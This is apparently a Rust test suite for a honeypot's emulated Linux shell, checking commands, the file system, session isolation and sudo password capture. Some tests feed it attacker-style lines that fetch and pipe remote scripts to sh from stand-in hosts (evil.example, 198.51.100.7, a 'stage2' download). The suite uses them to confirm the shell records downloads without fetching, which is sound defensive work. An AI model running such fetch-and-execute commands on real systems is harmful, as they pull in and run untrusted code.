//! The fake shell against a generated decky filesystem.
#![allow(clippy::unwrap_used)]

use std::sync::Arc;

use chrono::{TimeZone, Utc};
use decnet_core::{DeckySeed, Persona};
use decnet_shell::{generate, Shell, ShellEvent, ShellOptions, Vfs};
use proptest::prelude::*;

fn vfs() -> Arc<Vfs> {
    vfs_of("debian")
}

/// `web01` on `distro` (`ubuntu22` ships sudo; Debian with a root
/// password does not).
fn vfs_of(distro: &str) -> Arc<Vfs> {
    let seed = DeckySeed::new("web01", 0);
    let now = Utc.with_ymd_and_hms(2026, 11, 23, 10, 0, 0).unwrap();
    let p = Persona::generate(&seed, Some(distro), &[], "linux", now);
    Arc::new(generate(
        &p,
        &seed,
        "10.0.0.5".parse().unwrap(),
        &[
            ("root".into(), "toor".into()),
            ("ubuntu".into(), "s3cret".into()),
        ],
    ))
}

fn opts() -> ShellOptions {
    ShellOptions {
        remote: "203.0.113.9".into(),
        now: Some(Utc.with_ymd_and_hms(2026, 11, 23, 10, 0, 0).unwrap()),
        ..ShellOptions::default()
    }
}

#[test]
fn identity_commands() {
    let v = vfs();
    let mut sh = Shell::new(v.clone(), "root", opts());
    let host = v.host().hostname.clone();
    assert_eq!(sh.prompt(), format!("root@{host}:~# "));
    assert_eq!(sh.execute("whoami").stdout, "root\n");
    assert_eq!(
        sh.execute("id").stdout,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(sh.execute("pwd").stdout, "/root\n");
    assert_eq!(sh.execute("hostname").stdout, format!("{host}\n"));
    let u = sh.execute("uname -a").stdout;
    assert!(
        u.starts_with(&format!("Linux {host} {} #1 SMP", v.host().kernel)),
        "{u}"
    );
    assert!(u.ends_with(" x86_64 GNU/Linux\n"), "{u}");
    assert_eq!(
        sh.execute("uname -r").stdout,
        format!("{}\n", v.host().kernel)
    );
    assert_eq!(sh.execute("uname -m").stdout, "x86_64\n");
    assert_eq!(sh.execute("uname").stdout, "Linux\n");
    let mut user = Shell::new(v, "ubuntu", opts());
    assert!(user
        .execute("id")
        .stdout
        .starts_with("uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu)"));
    assert!(user.prompt().ends_with(":~$ "));
}

#[test]
fn files_from_persona() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let passwd = sh.execute("cat /etc/passwd").stdout;
    assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
    assert!(passwd.contains("ubuntu:x:1000:1000:ubuntu,,,:/home/ubuntu:/bin/bash\n"));
    let shadow = sh.execute("cat /etc/shadow").stdout;
    assert!(shadow.starts_with("root:$y$j9T$"), "{shadow}");
    assert!(sh
        .execute("cat /etc/os-release")
        .stdout
        .contains("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\""));
    let cpu = sh
        .execute("cat /proc/cpuinfo | grep 'model name' | wc -l")
        .stdout;
    assert_eq!(cpu.trim().parse::<u32>().unwrap(), sh.vfs().host().cpus);
    assert!(sh
        .execute("cat /proc/version")
        .stdout
        .starts_with("Linux version 6.1.0-"));
    assert!(sh
        .execute("cat /proc/meminfo")
        .stdout
        .starts_with("MemTotal:"));
    assert!(!sh.execute("cat ~/.bash_history").stdout.is_empty());
    let out = sh.execute("cat /nope");
    assert_eq!(out.stdout, "cat: /nope: No such file or directory\n");
    assert_eq!(out.exit_code, 1);
    // Non-root cannot read the shadow file.
    let mut u = Shell::new(sh.vfs().clone(), "ubuntu", opts());
    assert_eq!(
        u.execute("cat /etc/shadow").stdout,
        "cat: /etc/shadow: Permission denied\n"
    );
}

#[test]
fn ls_formats() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let l = sh.execute("ls -la /root").stdout;
    let lines: Vec<&str> = l.lines().collect();
    assert!(lines[0].starts_with("total "), "{l}");
    assert!(
        lines[1].starts_with("drwx------ 2 root root 4096 ") && lines[1].ends_with(" ."),
        "{l}"
    );
    assert!(lines[2].ends_with(" .."), "{l}");
    assert!(l.contains(" .bash_history\n") && l.contains(" .bashrc\n"));
    let plain = sh.execute("ls /").stdout;
    for d in ["bin", "etc", "home", "root", "tmp", "usr", "var"] {
        assert!(
            plain.split_whitespace().any(|w| w == d),
            "{d} missing in {plain}"
        );
    }
    let bin = sh.execute("ls -l /").stdout;
    assert!(
        bin.contains("lrwxrwxrwx 1 root root    7 ") && bin.contains(" bin -> usr/bin\n"),
        "{bin}"
    );
    assert_eq!(
        sh.execute("ls /nope").stdout,
        "ls: cannot access '/nope': No such file or directory\n"
    );
    assert!(sh.execute("ls /bin").stdout.contains("bash"));
}

#[test]
fn writes_stay_in_session_overlay() {
    let v = vfs();
    let mut a = Shell::new(v.clone(), "root", opts());
    let out = a.execute("echo hello > /tmp/x; echo world >> /tmp/x; cat /tmp/x");
    assert_eq!(out.stdout, "hello\nworld\n");
    assert!(out
        .events
        .iter()
        .any(|e| matches!(e, ShellEvent::FileWrite { path, size: 12 } if path == "/tmp/x")));
    assert_eq!(
        a.execute("mkdir -p /opt/a/b && cd /opt/a/b && pwd").stdout,
        "/opt/a/b\n"
    );
    a.execute("touch f; cp f g; mv g h; chmod 755 h");
    let l = a.execute("ls -l").stdout;
    assert!(
        l.contains("-rw-r--r-- 1 root root 0 ") && l.contains(" f\n"),
        "{l}"
    );
    assert!(
        l.contains("-rwxr-xr-x 1 root root 0 ") && l.contains(" h\n"),
        "{l}"
    );
    assert!(!l.contains(" g\n"));
    a.execute("rm -rf /opt/a");
    assert!(a.execute("ls /opt").stdout.is_empty());
    // Another session of the same decky sees none of it.
    let mut b = Shell::new(v.clone(), "root", opts());
    assert_eq!(b.execute("cat /tmp/x").exit_code, 1);
    assert!(v.get("/tmp/x").is_none());
    // rm of a base file hides it only in this session.
    a.execute("rm /etc/hostname");
    assert_eq!(a.execute("cat /etc/hostname").exit_code, 1);
    assert_eq!(b.execute("cat /etc/hostname").exit_code, 0);
}

#[test]
fn overlay_quota_bounds_writes() {
    let v = vfs();
    let mut sh = Shell::new(
        v,
        "root",
        ShellOptions {
            quota: 1000,
            ..opts()
        },
    );
    let big = "x".repeat(600);
    assert_eq!(sh.execute(&format!("echo {big} > /tmp/a")).exit_code, 0);
    let out = sh.execute(&format!("echo {big} > /tmp/b"));
    assert_eq!(out.stdout, "-bash: /tmp/b: No space left on device\n");
}

#[test]
fn file_drops_appear_with_mode_and_mtime() {
    let v = vfs();
    let t = Utc.with_ymd_and_hms(2025, 3, 4, 5, 6, 0).unwrap();
    v.add_file("/var/www/html/backup.sql", b"-- dump\n", 0o600, t, None)
        .unwrap();
    assert_eq!(
        v.add_file("/../etc/x", b"", 0o644, t, None),
        Err(decnet_shell::VfsError::BadPath)
    );
    let mut sh = Shell::new(v.clone(), "root", opts());
    let l = sh.execute("ls -l /var/www/html").stdout;
    assert!(
        l.lines().any(
            |x| x.starts_with("-rw------- 1 root") && x.ends_with(" 8 Mar  4  2025 backup.sql")
        ),
        "{l}"
    );
    assert_eq!(
        sh.execute("cat /var/www/html/backup.sql").stdout,
        "-- dump\n"
    );
    assert!(v.remove_file("/var/www/html/backup.sql"));
    assert_eq!(sh.execute("cat /var/www/html/backup.sql").exit_code, 1);
}

#[test]
fn sequencing_and_unknown_commands() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let out = sh.execute("foo");
    assert_eq!(out.stdout, "-bash: foo: command not found\n");
    assert_eq!(out.exit_code, 127);
    assert_eq!(sh.execute("false && echo no || echo yes").stdout, "yes\n");
    assert_eq!(sh.execute("true && echo a; echo b").stdout, "a\nb\n");
    assert_eq!(sh.execute("echo $?").stdout, "0\n");
    assert_eq!(
        sh.execute("export FOO=bar; echo $FOO ${FOO}x").stdout,
        "bar barx\n"
    );
    assert_eq!(sh.execute("echo 'a  b' \"$HOME\"").stdout, "a  b /root\n");
    assert_eq!(sh.execute("echo -e 'a\\tb'").stdout, "a\tb\n");
    assert_eq!(sh.execute("which ls; which nope").stdout, "/usr/bin/ls\n");
    assert_eq!(
        sh.execute("echo 'oops").stdout,
        "-bash: unexpected EOF while looking for matching `''\n"
    );
    let h = sh.execute("history").stdout;
    assert!(h.starts_with("    1  foo\n"), "{h}");
    assert_eq!(
        sh.execute("cd /nope").stdout,
        "-bash: cd: /nope: No such file or directory\n"
    );
    let out = sh.execute("bash -c 'echo inner; whoami'");
    assert_eq!(out.stdout, "inner\nroot\n");
    // One command event per line.
    let out = sh.execute("ls; ls | wc -l");
    assert_eq!(
        out.events
            .iter()
            .filter(|e| matches!(e, ShellEvent::Command { .. }))
            .count(),
        1
    );
}

#[test]
fn bot_one_liners() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let model = sh.vfs().host().cpu_model.clone();
    let out =
        sh.execute("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'");
    let words: Vec<&str> = model.split_whitespace().collect();
    let want: Vec<&str> = words.iter().take(6).copied().collect();
    assert_eq!(out.stdout.trim_end(), want.join(" ").trim_end(), "{model}");
    assert_eq!(
        sh.execute("cut -d: -f1,7 /etc/passwd | head -1").stdout,
        "root:/bin/bash\n"
    );
    assert_eq!(sh.execute("echo abcdef | cut -c2-3").stdout, "bc\n");
    assert_eq!(
        sh.execute("awk -F: '{print $1}' /etc/passwd | head -n 2")
            .stdout,
        "root\ndaemon\n"
    );
    assert_eq!(
        sh.execute("grep -c ^processor /proc/cpuinfo").stdout,
        format!("{}\n", sh.vfs().host().cpus)
    );
    // Installed tools we do not emulate succeed quietly rather than failing oddly.
    assert_eq!(sh.execute("tar xzf x.tgz").exit_code, 0);
}

#[test]
fn system_views() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let ps = sh.execute("ps aux").stdout;
    assert!(ps.starts_with(
        "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
    ));
    assert!(ps.contains("/sbin/init") && ps.contains("sshd"));
    let w = sh.execute("w").stdout;
    assert!(
        w.contains(" up ") && w.contains("load average:") && w.contains("203.0.113.9"),
        "{w}"
    );
    assert!(sh
        .execute("uptime")
        .stdout
        .contains(" user,  load average: "));
    // A stock Debian has no net-tools: `ip`/`ss` answer, `ifconfig` does not.
    let ifc = sh.execute("ifconfig");
    assert_eq!(ifc.exit_code, 127, "{}", ifc.stdout);
    assert!(sh
        .execute("ip a")
        .stdout
        .contains("inet 10.0.0.5/24 brd 10.0.0.255 scope global eth0"));
    assert!(sh.execute("free -m").stdout.starts_with(
        "               total        used        free      shared  buff/cache   available\nMem:"
    ));
    assert!(sh
        .execute("df -h")
        .stdout
        .starts_with("Filesystem      Size  Used Avail Use% Mounted on\n"));
    assert_eq!(sh.execute("netstat -tlnp").exit_code, 127);
    assert!(sh.execute("ss -tlnp").stdout.contains("LISTEN"));
    assert!(sh.execute("env").stdout.contains("HOME=/root\n"));
}

#[test]
fn downloads_are_recorded_not_fetched() {
    let mut sh = Shell::new(vfs(), "root", opts());
    let out = sh.execute(
        "cd /tmp && wget http://evil.example/x.sh -O x.sh; curl -s http://198.51.100.7/y | sh",
    );
    let urls: Vec<_> = out
        .events
        .iter()
        .filter_map(|e| match e {
            ShellEvent::Download { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        vec!["http://evil.example/x.sh", "http://198.51.100.7/y"]
    );
    assert!(
        out.stdout
            .contains("wget: unable to resolve host address ‘evil.example’"),
        "{}",
        out.stdout
    );
    assert!(out
        .stdout
        .contains("curl: (7) Failed to connect to 198.51.100.7 port 80"));
}

#[test]
fn uploaded_scripts_run_in_the_fake_shell_only() {
    let v = vfs();
    let t = Utc.with_ymd_and_hms(2026, 11, 23, 9, 0, 0).unwrap();
    v.add_file(
        "/tmp/x.sh",
        b"#!/bin/sh\ncd /tmp\nwget http://203.0.113.77/stage2 -O s2\necho done\n",
        0o755,
        t,
        None,
    )
    .unwrap();
    let mut sh = Shell::new(v, "root", opts());
    for cmd in ["sh /tmp/x.sh", "/tmp/x.sh", "cd /tmp; ./x.sh"] {
        let out = sh.execute(cmd);
        assert!(out.stdout.ends_with("done\n"), "{cmd}: {}", out.stdout);
        assert!(
            out.events.iter().any(|e| matches!(e, ShellEvent::Download { url, .. } if url == "http://203.0.113.77/stage2")),
            "{cmd}"
        );
        // One command event: the line typed, not the script's lines.
        assert_eq!(
            out.events
                .iter()
                .filter(|e| matches!(e, ShellEvent::Command { .. }))
                .count(),
            1
        );
    }
    assert_eq!(
        sh.execute("chmod -x /tmp/x.sh; /tmp/x.sh").stdout,
        "-bash: /tmp/x.sh: Permission denied\n"
    );
}

#[test]
fn sudo_prompts_and_records_password() {
    let v = vfs_of("ubuntu22");
    let mut sh = Shell::new(v, "ubuntu", opts());
    let out = sh.execute("sudo id");
    assert_eq!(
        out.password_prompt.as_deref(),
        Some("[sudo] password for ubuntu: ")
    );
    let out = sh.password("wrong");
    assert_eq!(out.stdout, "Sorry, try again.\n");
    assert!(
        matches!(&out.events[0], ShellEvent::Password { password, success: false, .. } if password == "wrong")
    );
    let out = sh.password("s3cret");
    assert_eq!(out.stdout, "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(sh.execute("whoami").stdout, "ubuntu\n");
    // sudo -i after a successful sudo: root shell, exit goes back.
    sh.execute("sudo -i");
    assert_eq!(sh.execute("whoami").stdout, "root\n");
    assert!(sh.prompt().ends_with(":~# "));
    let out = sh.execute("exit");
    assert!(!out.exit_requested);
    assert_eq!(sh.execute("whoami").stdout, "ubuntu\n");
    let out = sh.execute("exit 3");
    assert!(out.exit_requested);
    assert_eq!(out.exit_code, 3);
    // exec sessions have no terminal.
    let mut ex = Shell::new(
        sh.vfs().clone(),
        "ubuntu",
        ShellOptions {
            interactive: false,
            ..opts()
        },
    );
    assert!(ex
        .execute("sudo id")
        .stdout
        .starts_with("sudo: a terminal is required"));
}

#[test]
fn same_seed_same_filesystem() {
    let a = vfs();
    let b = vfs();
    let mut sa = Shell::new(a, "root", opts());
    let mut sb = Shell::new(b, "root", opts());
    for cmd in [
        "ls -la /etc",
        "cat /etc/shadow",
        "cat ~/.bash_history",
        "ps aux",
    ] {
        assert_eq!(sa.execute(cmd).stdout, sb.execute(cmd).stdout, "{cmd}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn execute_never_panics(line in "[a-z0-9 /.$'\"|&;<>~*-]{0,80}") {
        let v = vfs();
        let mut sh = Shell::new(v, "ubuntu", opts());
        let out = sh.execute(&line);
        prop_assert!(out.stdout.len() <= decnet_shell::shell::MAX_OUTPUT);
        let _ = sh.execute(&format!("ls {line}"));
        let _ = sh.execute(&format!("cd {line}; cat {line}; rm -rf {line}; mkdir -p {line}"));
    }
}
